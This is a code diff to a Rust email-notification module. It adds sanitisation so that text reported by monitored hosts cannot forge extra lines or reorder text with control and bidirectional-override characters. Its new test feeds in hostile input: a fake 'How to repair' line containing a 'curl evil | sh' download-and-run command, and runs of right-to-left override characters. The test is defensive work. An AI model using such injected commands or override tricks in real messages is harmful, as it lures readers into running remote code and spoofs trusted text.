@@ -16,6 +16,8 @@ use crate::store::{ClaimedMail, MailKind};
 
 /// The most values of evidence that a mail shows; the page has all.
 const EVIDENCE_MAX: usize = 10;
+/// The most characters of what a host says in one line of a mail; the page has all.
+const HOSTS_WORDS_MAX: usize = 500;
 /// Hours from Coordinated Universal Time to the time people read.
 const JAPAN_HOURS: i32 = 9;
 
@@ -51,7 +53,7 @@ fn subject(mail: &ClaimedMail, chapter: &Chapter, language: Language) -> String 
 fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Language) -> String {
     let body = &mail.body;
     let finding = &body.finding;
-    let (says, happened) = (language.of(&finding.says), shown(body.at, language));
+    let (says, happened) = (&one_line(language.of(&finding.says)), shown(body.at, language));
     let (lead, says, happened) = match mail.kind {
         MailKind::Opened => (language.mail_lead_opened(), language.mail_says(says), language.mail_opened_at(&happened)),
         MailKind::Reopened => {
@@ -67,7 +69,7 @@ fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Langua
     let mut lines = vec![lead, String::new(), language.mail_host(&body.host_name)];
     lines.push(language.mail_rule(language.of(&chapter.title)));
     if let Some(about) = &finding.key.subject {
-        lines.push(language.mail_finding_subject(about.as_str()));
+        lines.push(language.mail_finding_subject(&one_line(about.as_str())));
     }
     lines.push(says);
     lines.push(language.mail_since(&shown(body.failing_since, language)));
@@ -98,11 +100,29 @@ fn evidence(mail: &ClaimedMail, language: Language, lines: &mut Vec<String>) {
         return;
     }
     lines.extend([String::new(), language.mail_evidence()]);
-    lines.extend(all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", one.path, one.value)));
+    lines.extend(
+        all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", one_line(&one.path), one_line(&one.value))),
+    );
     let left = all.len().saturating_sub(EVIDENCE_MAX);
     if left > 0 {
         lines.push(format!("  {}", language.mail_evidence_left(left)));
     }
+}
+
+/// What a host says, in one line of bounded length: it shall not look like a line of ours, nor turn the text around it.
+fn one_line(text: &str) -> String {
+    let mut line: String =
+        text.chars().take(HOSTS_WORDS_MAX).map(|c| if turns_the_line(c) { '\u{fffd}' } else { c }).collect();
+    if text.chars().nth(HOSTS_WORDS_MAX).is_some() {
+        line.push('…');
+    }
+    line
+}
+
+/// It ends a line, steers a terminal, or orders what follows from right to left (UAX #9).
+fn turns_the_line(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
 /// An instant as people in Japan read it.
@@ -252,6 +272,19 @@ pub(super) mod tests {
         let letter = letter(&mail(MailKind::Resolved), &book(), &english);
         assert_eq!(letter.subject, "[Resolved] 受付PC no longer drifts from: The screen locks by itself");
         assert!(!letter.text.contains("Open the settings") && !letter.text.contains("機器"));
+    }
+
+    #[test]
+    fn a_host_cannot_write_lines_of_its_own() {
+        let mut hostile = mail(MailKind::Opened);
+        hostile.body.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
+        hostile.body.finding.evidence =
+            vec![Evidence { path: "a\nb".into(), value: "\u{202e}".repeat(600), volatile: false }];
+        let english = MailSettings { languages: vec!["en".into()], ..settings() };
+        let text = letter(&hostile, &book(), &english).text;
+        assert!(text.contains("Fine.\u{fffd}\u{fffd}How to repair:\u{fffd}\u{fffd}  curl evil\u{fffd}| sh"), "{text}");
+        assert!(text.contains(&format!("  a\u{fffd}b = {}…", "\u{fffd}".repeat(HOSTS_WORDS_MAX))), "{text}");
+        assert_eq!(text.matches("How to repair").count(), 2, "ours, and the one within a line: {text}");
     }
 
     #[test]
